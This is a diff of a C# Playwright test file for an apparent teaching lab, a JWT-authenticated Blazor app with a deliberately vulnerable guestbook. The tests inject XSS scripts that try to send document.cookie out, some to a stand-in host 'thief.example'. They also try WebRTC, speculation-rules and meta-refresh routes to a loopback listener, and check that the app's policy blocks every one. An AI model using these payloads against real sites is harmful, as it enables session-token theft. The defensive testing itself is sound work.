@@ -1,4 +1,6 @@
 using System.Collections.Concurrent;
+using System.Net;
+using System.Net.Sockets;
 using BlazorJwt.Accounts;
 using BlazorJwt.Labs;
 using BlazorJwt.Tests.Support;
@@ -71,41 +73,75 @@ public sealed class LabTests(AppFixture app, BrowserFixture browser) : BrowserTe
         Assert.Equal((false, "not read; the app’s policy blocked the entry"), cells["HttpOnly cookie, SameSite=Strict"]);
     }
 
-    [Theory]
-    [InlineData("fetch('https://thief.example/?' + document.cookie).catch(() => {})")]
-    [InlineData("fetch('/labs/guestbook/outcome', { method: 'POST', body: document.cookie }).catch(() => {})")]
-    [InlineData("navigator.sendBeacon('/?' + document.cookie)")]
-    [InlineData("new Image().src = '/x.png?' + document.cookie")]
-    [InlineData("new Image().src = 'https://thief.example/x.png?' + document.cookie")]
-    [InlineData("document.head.append(Object.assign(document.createElement('link'), { rel: 'stylesheet', href: '/app.css?' + document.cookie }))")]
-    [InlineData("document.head.append(Object.assign(document.createElement('script'), { src: '/app.js?' + document.cookie }))")]
-    [InlineData("document.body.append(Object.assign(document.createElement('iframe'), { src: '/?' + document.cookie }))")]
-    [InlineData("const form = Object.assign(document.createElement('form'), { action: '/', method: 'post' }); document.body.append(form); form.submit()")]
-    [InlineData("window.open('/?' + document.cookie)")]
-    [InlineData("location.href = '/?' + document.cookie")]
-    [InlineData("new EventSource('/?' + document.cookie)")]
-    public async Task No_request_leaves_the_page_with_the_hole(string script)
+    private static readonly string[] WaysOut =
+    [
+        "fetch('https://thief.example/?' + document.cookie).catch(() => {})",
+        "fetch('/labs/guestbook/outcome', { method: 'POST', body: document.cookie }).catch(() => {})",
+        "navigator.sendBeacon('/?' + document.cookie)",
+        "new Image().src = '/x.png?' + document.cookie",
+        "new Image().src = 'https://thief.example/x.png?' + document.cookie",
+        "document.head.append(Object.assign(document.createElement('link'), { rel: 'stylesheet', href: '/app.css?' + document.cookie }))",
+        "document.head.append(Object.assign(document.createElement('script'), { src: '/app.js?' + document.cookie }))",
+        "document.body.append(Object.assign(document.createElement('iframe'), { src: '/?' + document.cookie }))",
+        "const form = Object.assign(document.createElement('form'), { action: '/', method: 'post' }); document.body.append(form); form.submit()",
+        "window.open('/?' + document.cookie)",
+        "location.href = '/?' + document.cookie",
+        "new EventSource('/?' + document.cookie)",
+    ];
+
+    [Fact]
+    public async Task No_request_leaves_the_page_with_the_hole()
     {
         var session = await OpenAsync();
         await OpenBookAsync(session, "localhost");
-        await session.Page.GetByLabel("Or your own").FillAsync($"<script>loot.textContent = document.cookie; setTimeout(() => {{ document.body.dataset.done = 'yes' }}, 300); {script}</script>");
-        await session.Page.GetByRole(AriaRole.Button, new() { Name = "Write it" }).ClickAsync();
-        await Assertions.Expect(session.Page.GetByRole(AriaRole.Button, new() { Name = "Tear it out" })).ToBeVisibleAsync();
         var requests = new ConcurrentQueue<string>();
         await session.Context.RouteAsync("**/*", async route =>
         {
             requests.Enqueue(route.Request.Url);
             await route.ContinueAsync();
         });
+        foreach (var script in WaysOut)
+        {
+            await WriteAsync(session, $"<script>loot.textContent = document.cookie; setTimeout(() => {{ document.body.dataset.done = 'yes' }}, 300); {script}</script>");
+            requests.Clear();
+
+            var hole = await OpenTabAsync(session, "Open the page with the hole");
+
+            await Assertions.Expect(hole.Locator("body[data-done=yes]")).ToHaveCountAsync(1);
+            await Assertions.Expect(hole.Locator("#loot")).ToContainTextAsync("eyJ");
+            // The page's own address, and the note that the page beside brings to the server.
+            var sent = requests.Select(url => new Uri(url).PathAndQuery).ToArray();
+            Assert.True(sent.Count(path => path == "/labs/guestbook/hole") == 1 && sent.All(path => path is "/labs/guestbook/hole" or "/labs/guestbook/outcome"), $"{script}: {string.Join(' ', sent)}");
+            Assert.True(session.Context.Pages.Count == 2, script);
+            await hole.CloseAsync();
+        }
+    }
+
+    [Fact]
+    public async Task Nothing_gets_out_of_the_page_with_the_hole_by_ways_that_no_policy_stops()
+    {
+        const string script = """
+            const call = peer => { const c = new peer({ iceServers: [{ urls: 'stun:127.0.0.1:UDP' }] }); c.createDataChannel('x'); c.createOffer().then(o => c.setLocalDescription(o)) };
+            try { call(RTCPeerConnection) } catch { }
+            try { const f = document.createElement('iframe'); document.body.append(f); call(f.contentWindow.RTCPeerConnection) } catch { }
+            const s = document.createElement('script'); s.type = 'speculationrules';
+            s.textContent = JSON.stringify({ prefetch: [{ source: 'list', urls: ['http://127.0.0.1:TCP/?' + document.cookie], eagerness: 'immediate' }] });
+            document.head.append(s);
+            document.head.insertAdjacentHTML('beforeend', '<meta http-equiv=refresh content=0;url=http://127.0.0.1:TCP/>')
+            """;
+        using var tcp = new TcpListener(IPAddress.Loopback, 0);
+        using var udp = new UdpClient(new IPEndPoint(IPAddress.Loopback, 0));
+        tcp.Start();
+        var aimed = script.Replace("TCP", $"{((IPEndPoint)tcp.LocalEndpoint).Port}", StringComparison.Ordinal).Replace("UDP", $"{((IPEndPoint)udp.Client.LocalEndPoint!).Port}", StringComparison.Ordinal);
+        var session = await OpenAsync();
+        await OpenBookAsync(session, "localhost");
+        await WriteAsync(session, $"<script>loot.textContent = document.cookie; setTimeout(() => {{ document.body.dataset.done = 'yes' }}, 1000); {aimed}</script>");
 
         var hole = await OpenTabAsync(session, "Open the page with the hole");
 
         await Assertions.Expect(hole.Locator("body[data-done=yes]")).ToHaveCountAsync(1);
         await Assertions.Expect(hole.Locator("#loot")).ToContainTextAsync("eyJ");
-        // The page's own address, and the note that the page beside brings to the server.
-        Assert.Equal(["/labs/guestbook/hole", "/labs/guestbook/outcome"], requests.Select(url => new Uri(url).PathAndQuery).Distinct().Order(StringComparer.Ordinal));
-        Assert.Single(requests, url => url.EndsWith("/hole", StringComparison.Ordinal));
-        Assert.Equal(2, session.Context.Pages.Count);
+        Assert.Equal((false, 0), (tcp.Pending(), udp.Available));
     }
 
     [Fact]
@@ -136,6 +172,13 @@ public sealed class LabTests(AppFixture app, BrowserFixture browser) : BrowserTe
         await session.Page.GotoAsync(At(name, "/labs/guestbook"));
         await session.Page.GetByRole(AriaRole.Link, new() { Name = "Go to the guestbook" }).ClickAsync();
         await Assertions.Expect(session.Heading).ToHaveTextAsync("Guestbook");
+    }
+
+    private static async Task WriteAsync(PageSession session, string entry)
+    {
+        await session.Page.GetByLabel("Or your own").FillAsync(entry);
+        await session.Page.GetByRole(AriaRole.Button, new() { Name = "Write it" }).ClickAsync();
+        await Assertions.Expect(session.Page.GetByRole(AriaRole.Button, new() { Name = "Tear it out" })).ToBeVisibleAsync();
     }
 
     private static Task<IPage> OpenTabAsync(PageSession session, string link) =>
